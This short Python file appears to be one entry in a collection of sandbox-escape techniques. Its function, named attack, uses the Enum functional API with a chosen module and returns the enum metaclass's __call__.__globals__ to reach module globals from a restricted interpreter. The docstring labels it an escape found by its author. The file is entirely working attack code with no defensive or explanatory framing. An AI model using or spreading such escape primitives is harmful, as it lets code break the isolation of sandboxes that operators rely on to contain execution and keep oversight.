"""Class: class machinery. Source: own find. Escape: Enum's functional form makes a class in a
module of one's choice.
"""

import enum


def attack(model, tokenizer, address):
    made = enum.Enum("Made", {"x": 1}, module="os", type=int)
    return type(made).__call__.__globals__
